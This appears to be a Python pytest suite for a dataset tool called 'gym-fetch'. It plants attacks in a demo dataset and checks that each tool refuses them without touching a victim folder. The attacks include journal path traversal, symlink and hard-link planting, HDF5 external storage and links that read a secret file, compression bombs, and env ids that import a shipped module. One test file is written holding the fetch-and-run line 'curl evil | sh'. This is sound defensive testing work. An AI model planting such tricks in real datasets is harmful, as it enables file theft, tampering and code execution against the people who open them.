"""A stranger's dataset is data (docs/security.md): every attack of the corpus against every tool that
opens a dataset, with one check for all. A victim folder beside the dataset (a `.bashrc`, a thesis, a
secret) is the same before and after, byte for byte and link for link; no module the dataset names is
imported; the tool exits with a one-line refusal (or a correct result where the attack is harmless),
never a traceback, within 30 s.

The corpus is made here, from a fresh two-demo Reach-v2 dataset; a new attack is one entry of
ATTACKS, and a new tool one line of `test_corrupt_inputs.TOOLS` (or EXTRA_TOOLS)."""

from __future__ import annotations

import dataclasses
import hashlib
import json
import os
import pathlib
import re
import shutil
import stat
import sys
import time
from collections.abc import Callable

import h5py
import numpy as np
import pytest

from fetch.cli import main
from fetch.dataset import open_dataset
from fetch.errors import FetchError
from test_corrupt_inputs import NEEDS, TOOLS

JOURNAL = ".demos.hdf5.rewrites"
MODULE = "fetch_hostile_probe"
"""A module shipped inside the dataset: imported, it writes `imported.txt` into the victim folder."""

EXTRA_TOOLS: dict[str, list[str]] = {
    "collect_resume": ["collect", "--env", "Reach-v2", "--device", "expert", "--episodes", "1", "--render", "none",
                       "--out", "{d}"],
}
ALL_TOOLS = {**TOOLS, **EXTRA_TOOLS}
WRITERS = ("collect_resume", "render_obs", "split", "merge", "export_npz", "view", "info")
"""The tools a harmless-looking attack (a planted link where a tool writes) is tried on: those that write
into the dataset or beside it, and one reader."""


# -- the victim ---------------------------------------------------------------------------------------

def victim(root: pathlib.Path) -> pathlib.Path:
    v = root / "victim"
    (v / "sub").mkdir(parents=True)
    (v / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
    (v / "thesis.txt").write_text("chapter 1\n")
    (v / "v1.txt").write_text("version 1\n")
    (v / "v2.txt").write_text("version 2\n")
    (v / "secret.bin").write_bytes(bytes(range(256)) * 64)
    (v / "sub" / "notes.txt").write_text("notes\n")
    with h5py.File(v / "source.hdf5", "w") as f:
        f.create_dataset("x", data=np.arange(200, dtype=np.float64).reshape(50, 4))
    return v


def fingerprint(root: pathlib.Path) -> dict[str, str]:
    """Every entry under `root`, links not followed: a file's hash, a link's target, a folder."""
    seen = {}
    for p in sorted(root.rglob("*")):
        info = os.lstat(p)
        if stat.S_ISLNK(info.st_mode):
            seen[str(p.relative_to(root))] = "link " + os.readlink(p)
        elif stat.S_ISDIR(info.st_mode):
            seen[str(p.relative_to(root))] = "dir"
        else:
            seen[str(p.relative_to(root))] = hashlib.sha256(p.read_bytes()).hexdigest()
    return seen


# -- the attacks --------------------------------------------------------------------------------------

@dataclasses.dataclass(frozen=True)
class Attack:
    plant: Callable[[pathlib.Path, pathlib.Path], None]
    """Changes the dataset `d`, aiming at the victim folder `v`."""
    refused: str | None
    """A regular expression the refusal must match; None: the attack is harmless once the tools write only
    through names they made (a planted link at a temporary name), so a correct result is fine too."""
    tools: tuple[str, ...] = tuple(ALL_TOOLS)


def journal(entries: Callable[[pathlib.Path, pathlib.Path], object] | list[list[str]] | str) -> Callable[
        [pathlib.Path, pathlib.Path], None]:
    """A journal of `entries`: its text, its entries, or a function of the dataset and the victim giving them."""
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        text = entries if isinstance(entries, str) else json.dumps(entries(d, v) if callable(entries) else entries)
        (d / JOURNAL).write_text(text)
    return plant


def payload(d: pathlib.Path, v: pathlib.Path) -> object:
    (d / "payload.sh").write_text("curl evil | sh\n")
    return [["payload.sh", str(v / ".bashrc")], [str(v / "thesis.txt"), "../../x"]]


def planted_tmp(kind: str) -> Callable[[pathlib.Path, pathlib.Path], None]:
    """The temporary name of an edit's copy of the index planted as a link to the victim (a symbolic one
    or a hard one), and a journal that renames it over the index."""
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        tmp = d / ".demos.hdf5.x.tmp"
        if kind == "symlink":
            tmp.symlink_to(v / "v1.txt")
        else:
            os.link(v / "v1.txt", tmp)
        (d / JOURNAL).write_text(json.dumps([[tmp.name, "demos.hdf5"]]))
    return plant


def tmp_links(d: pathlib.Path, v: pathlib.Path) -> None:
    """Links at the names the tools once wrote their temporary files under (no journal)."""
    (d / ".demos.hdf5.tmp").symlink_to(v / "v1.txt")
    (d / "episodes" / ".demo_0.hdf5.tmp").symlink_to(v / "v2.txt")
    (d / "episodes" / ".demo_1.hdf5.tmp").symlink_to(v / "v2.txt")
    (d / ".probe.tmp").symlink_to(v / "thesis.txt")


def moved_out(name: str) -> Callable[[pathlib.Path, pathlib.Path], None]:
    """`name` (the index, `episodes/`, a demo file) moved into the victim folder, a link left in its place."""
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        target = v / pathlib.Path(name).name
        shutil.move(str(d / name), target)
        (d / name).symlink_to(target)
    return plant


def episodes_linked_inside(d: pathlib.Path, v: pathlib.Path) -> None:
    """`episodes/` a link to a folder inside the dataset: reading through it stays inside; writing
    through it is refused."""
    (d / "episodes").rename(d / "real_episodes")
    (d / "episodes").symlink_to("real_episodes")


def hard_linked_demo(d: pathlib.Path, v: pathlib.Path) -> None:
    """The victim's file is a hard link to a demo's: a tool that edited in place would change it."""
    os.link(d / "episodes" / "demo_1.hdf5", v / "demo_1_link.hdf5")


def demo_dataset(key: str, make: Callable[[h5py.Group, str, np.ndarray, pathlib.Path], None]) -> Callable[
        [pathlib.Path, pathlib.Path], None]:
    """demo_1's `key` replaced by what `make` puts there."""
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        with h5py.File(d / "episodes" / "demo_1.hdf5", "r+") as f:
            group = f["demo_1"]
            data = group[key][()]
            del group[key]
            make(group, key, data, v)
    return plant


def external_storage(group: h5py.Group, key: str, data: np.ndarray, v: pathlib.Path) -> None:
    """The key's rows stored in the victim's secret (HDF5 external storage)."""
    group.create_dataset(key, shape=data.shape, dtype=data.dtype, external=[(str(v / "secret.bin"), 0, data.nbytes)])


def bomb(shape: tuple[int, ...]) -> Callable[[h5py.Group, str, np.ndarray, pathlib.Path], None]:
    """The key declared at `shape`, all zeros in gzip chunks: kilobytes on disk, gigabytes once read."""
    def make(group: h5py.Group, key: str, data: np.ndarray, v: pathlib.Path) -> None:
        group.create_dataset(key, shape=shape, dtype=np.float64, chunks=(1, min(shape[1], 2**16)),
                             compression="gzip", fillvalue=0.0)
    return make


def virtual(group: h5py.Group, key: str, data: np.ndarray, v: pathlib.Path) -> None:
    layout = h5py.VirtualLayout(shape=(50, 4), dtype=np.float64)
    layout[:] = h5py.VirtualSource(str(v / "source.hdf5"), "x", shape=(50, 4))
    group.create_virtual_dataset(key, layout)


def external_link(group: h5py.Group, key: str, data: np.ndarray, v: pathlib.Path) -> None:
    group[key] = h5py.ExternalLink(str(v / "source.hdf5"), "x")


def index_mask_external(d: pathlib.Path, v: pathlib.Path) -> None:
    with h5py.File(d / "demos.hdf5", "r+") as f:
        del f["mask/train"]
        f["mask"].create_dataset("train", shape=(16,), dtype="S8", external=[(str(v / "secret.bin"), 0, 128)])


def env_name(name: str | Callable[[pathlib.Path], str]) -> Callable[[pathlib.Path, pathlib.Path], None]:
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        with h5py.File(d / "demos.hdf5", "r+") as f:
            args = json.loads(f["data"].attrs["env_args"])
            f["data"].attrs["env_args"] = json.dumps({**args, "env_name": name(d) if callable(name) else name})
    return plant


def env_kwargs(kwargs: dict[str, object]) -> Callable[[pathlib.Path, pathlib.Path], None]:
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        with h5py.File(d / "demos.hdf5", "r+") as f:
            args = json.loads(f["data"].attrs["env_args"])
            f["data"].attrs["env_args"] = json.dumps({**args, "env_kwargs": {**args["env_kwargs"], **kwargs}})
    return plant


def settings(changed: dict[str, object]) -> Callable[[pathlib.Path, pathlib.Path], None]:
    def plant(d: pathlib.Path, v: pathlib.Path) -> None:
        with h5py.File(d / "demos.hdf5", "r+") as f:
            f["data"].attrs["settings"] = json.dumps({**json.loads(f["data"].attrs["settings"]), **changed})
    return plant


def shipped_module(d: pathlib.Path) -> str:
    (d / f"{MODULE}.py").write_text(f"import pathlib\npathlib.Path({str(d.parent / 'victim' / 'imported.txt')!r})"
                                    ".write_text('ran')\n")
    return f"{MODULE}:Reach-v2"


JOURNAL_REFUSED = r"\.demos\.hdf5\.rewrites"
ATTACKS: dict[str, Attack] = {
    # the edit journal, followed anywhere
    "journal_outside": Attack(journal(payload), JOURNAL_REFUSED),
    "journal_dotdot_in": Attack(journal([["../victim/thesis.txt", "episodes/demo_0.hdf5"]]), JOURNAL_REFUSED),
    "journal_folder_in": Attack(journal([["../victim", "episodes/demo_0.hdf5"]]), JOURNAL_REFUSED),
    "journal_folder_out": Attack(journal([["episodes", "../victim/moved"]]), JOURNAL_REFUSED),
    "journal_absolute": Attack(journal(lambda d, v: [[str(d / ".demos.hdf5.x.tmp"), str(d / "demos.hdf5")]]),
                               JOURNAL_REFUSED),
    "journal_not_a_temporary": Attack(journal(lambda d, v: (d / "payload.sh").write_text("x") and
                                              [["payload.sh", "demos.hdf5"]]), JOURNAL_REFUSED),
    "journal_other_file": Attack(journal([[".notes.txt.x.tmp", "notes.txt"]]), JOURNAL_REFUSED),
    "journal_symlinked_tmp": Attack(planted_tmp("symlink"), JOURNAL_REFUSED),
    "journal_hard_linked_tmp": Attack(planted_tmp("hard"), JOURNAL_REFUSED),
    "journal_is_a_link": Attack(lambda d, v: ((v / "sub" / "j.json").write_text("[]"),
                                              (d / JOURNAL).symlink_to(v / "sub" / "j.json")) and None,
                                JOURNAL_REFUSED),
    **{f"journal_malformed_{i}": Attack(journal(text), JOURNAL_REFUSED)
       for i, text in enumerate(['[["a"]]', "null", "{}", '"x"', "[[1, 2]]", '[["a", "b", "c"]]', "not json", "",
                                 '[["", ""]]', '[[".demos.hdf5.\\u0000.tmp", "demos.hdf5"]]'])},
    # links where the tools write, and links out
    "tmp_links": Attack(tmp_links, None, WRITERS),
    "index_linked_out": Attack(moved_out("demos.hdf5"), r"outside|symbolic link"),
    "episodes_linked_out": Attack(moved_out("episodes"), r"outside|symbolic link"),
    "demo_linked_out": Attack(moved_out("episodes/demo_1.hdf5"), r"outside"),
    "episodes_linked_inside": Attack(episodes_linked_inside, None, WRITERS),
    "demo_hard_linked": Attack(hard_linked_demo, None, WRITERS),
    # HDF5 that reads other files
    "external_storage": Attack(demo_dataset("obs/observation", external_storage), r"another file"),
    "external_storage_mask": Attack(index_mask_external, r"another file"),
    "virtual_dataset": Attack(demo_dataset("actions", virtual), r"virtual dataset"),
    "external_link_in_demo": Attack(demo_dataset("actions", external_link), r"external link"),
    "soft_link_in_demo": Attack(demo_dataset("actions", lambda g, k, data, v: g.__setitem__(
        k, h5py.SoftLink("/demo_1/expert_actions"))), r"soft link"),
    # arrays declared far larger than their file: a compression bomb, rows beyond any demo
    "compression_bomb": Attack(demo_dataset("states", bomb((200_000, 274))), r"rows"),
    "compression_bomb_wide": Attack(demo_dataset("obs/observation", bomb((51, 2**24))), r"GiB once read"),
    # env ids that would make Gymnasium import a module
    "env_this": Attack(env_name("this:Reach-v2"), r"this:Reach-v2"),
    "env_shipped_module": Attack(env_name(shipped_module), MODULE),
    "env_venv": Attack(env_name("venv.__main__:Reach-v2"), r"venv"),
    "env_not_ours": Attack(env_name("FetchReach-v4"), r"FetchReach-v4"),
    # numbers that are used as they are
    **{f"settings_max_steps_{i}": Attack(settings({"max_steps": value}), "max_steps")
       for i, value in enumerate(("abc", 10**12, -5, 1.5, True, None))},
    # env kwargs that would size a renderer, open a window or run an episode for ever
    **{f"env_kwargs_{key}": Attack(env_kwargs({key: value}), key)
       for key, value in (("image_size", 10**6), ("cameras", ["front"] * 10**4), ("render_mode", "human"),
                          ("max_episode_steps", 10**12), ("reward_type", 10**100), ("looks", {"a": 1}))},
}


LINKS = ("tmp_links", "index_linked_out", "episodes_linked_out", "demo_linked_out", "episodes_linked_inside")


def cases() -> list[tuple[str, str, bool]]:
    """(attack, tool, read-only): every attack against each of its tools in a folder the user may write;
    the journals and links against the writing tools also in one they may not (as root the same)."""
    return [(attack, tool, False) for attack, spec in ATTACKS.items() for tool in spec.tools] + \
        [(attack, tool, True) for attack in ATTACKS if attack.startswith("journal_") or attack in LINKS
         for tool in WRITERS]


def make_read_only(root: pathlib.Path, read_only: bool) -> None:
    """The folder and what it holds without (or, `read_only` False, with back) the owner's write bit."""
    for p in [root, *root.rglob("*")]:
        if not p.is_symlink():
            mode = p.stat().st_mode
            p.chmod(mode & ~stat.S_IWUSR if read_only else mode | stat.S_IWUSR)


def page_problems(html: str) -> str:
    tag = '<script id="summary" type="application/json">'
    return html[html.index(tag):html.index("</script>", html.index(tag))] if tag in html else ""


@pytest.mark.parametrize(("attack", "tool", "read_only"), cases())
def test_a_hostile_dataset_touches_nothing_outside_and_is_refused_in_one_line(
        reach_demos: pathlib.Path, tmp_path: pathlib.Path, attack: str, tool: str, read_only: bool,
        capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch) -> None:
    if tool in NEEDS:
        pytest.importorskip(NEEDS[tool])
    monkeypatch.setenv("MINARI_DATASETS_PATH", str(tmp_path / "minari"))
    spec = ATTACKS[attack]
    v = victim(tmp_path)
    d = tmp_path / "dataset"
    shutil.copytree(reach_demos, d)
    shutil.copytree(reach_demos, tmp_path / "other")  # merge's second, sound input
    spec.plant(d, v)
    monkeypatch.syspath_prepend(str(d))  # as a Python session started in the dataset's folder
    monkeypatch.chdir(d)
    imported = set(sys.modules)
    before = fingerprint(v)
    links = {p for p in d.rglob("*") if p.is_symlink()}
    argv = [a.format(d=d, t=tmp_path) for a in ALL_TOOLS[tool]]
    capsys.readouterr()
    make_read_only(d, read_only)
    start = time.perf_counter()
    try:
        code = main(argv)
    except BaseException as e:  # noqa: BLE001 (any escape is the failure this test is about)
        pytest.fail(f"gym-fetch {' '.join(argv)} raised {e!r} instead of a one-line error")
    finally:
        make_read_only(d, False)
    seconds = time.perf_counter() - start
    out, err = capsys.readouterr()
    said = f"exit {code}; stdout: {out[-600:]!r}; stderr: {err!r}"

    assert fingerprint(v) == before, f"the victim folder changed: {said}"
    assert {MODULE, "this", "venv.__main__"} & (set(sys.modules) - imported) == set(), said
    assert "Traceback" not in out + err, said
    assert seconds < 30, f"{seconds:.0f} s: {said}"
    assert {p for p in d.rglob("*") if p.is_symlink()} <= links, "a tool left a link in the dataset"
    if code == 2:
        lines = [line for line in err.strip().splitlines() if not line.startswith("collecting ")]  # collect's banner
        assert len(lines) == 1 and lines[0].startswith(f"gym-fetch {argv[0]}: error: "), said
        assert str(d) in lines[0], f"the refusal does not name the dataset: {said}"
    if spec.refused is None:
        assert code in (0, 1, 2), said
        return
    reason = spec.refused if not read_only else f"(?:{spec.refused})|(?i:permission denied)"  # refused either way
    if code == 2:
        assert re.search(reason, err), f"the refusal does not say {reason!r}: {said}"
    elif code == 1 and tool in ("info", "replay_check"):
        assert re.search(reason, out), said
    elif code == 0 and tool == "view":  # the page shows the problem where it is
        assert re.search(reason, page_problems((tmp_path / "view" / "index.html").read_text())), said
    else:
        pytest.fail(f"gym-fetch {' '.join(argv)} was not refused: {said}")


# -- each per-step array, each way of reading another file, through the one reader -----------------

KEYS = ("actions", "dones", "expert_actions", "is_success", "rewards", "states", "terminated", "timestamps",
        "truncated", "obs/observation", "obs/achieved_goal", "obs/desired_goal", "next_obs/observation",
        "next_obs/achieved_goal", "next_obs/desired_goal")


@pytest.mark.parametrize("key", KEYS)
@pytest.mark.parametrize("make", [external_storage, external_link])
def test_every_array_of_a_demo_is_read_from_its_own_file_only(
        reach_demos: pathlib.Path, tmp_path: pathlib.Path, key: str,
        make: Callable[[h5py.Group, str, np.ndarray, pathlib.Path], None]) -> None:
    v = victim(tmp_path)
    d = tmp_path / "dataset"
    shutil.copytree(reach_demos, d)
    demo_dataset(key, make)(d, v)
    with open_dataset(d) as ds:
        ds.arrays("demo_0")
        with pytest.raises(FetchError, match=re.escape(key)) as refused:
            ds.arrays("demo_1")
    assert "demo_1" in str(refused.value) and "\n" not in str(refused.value)


def test_a_merged_file_s_demo_reading_another_file_is_refused(reach_demos: pathlib.Path,
                                                               tmp_path: pathlib.Path) -> None:
    """A merged file keeps its demos inside: each is checked when it is first read, the rest at open."""
    v = victim(tmp_path)
    merged = tmp_path / "m.hdf5"
    shutil.copytree(reach_demos, tmp_path / "a")
    shutil.copytree(reach_demos, tmp_path / "b")
    assert main(["merge", str(tmp_path / "a"), str(tmp_path / "b"), "--out", str(merged)]) == 0
    with h5py.File(merged, "r+") as f:
        del f["data/demo_3/rewards"]
        external_storage(f["data/demo_3"], "rewards", np.zeros(50), v)
    with open_dataset(merged) as ds:
        ds.arrays("demo_2")
        with pytest.raises(FetchError, match="demo 'demo_3': rewards keeps its data in another file"):
            ds.arrays("demo_3")
    assert main(["export", str(merged), "--to", "npz", "--out", str(tmp_path / "npz")]) == 2
    assert not (tmp_path / "npz").exists()
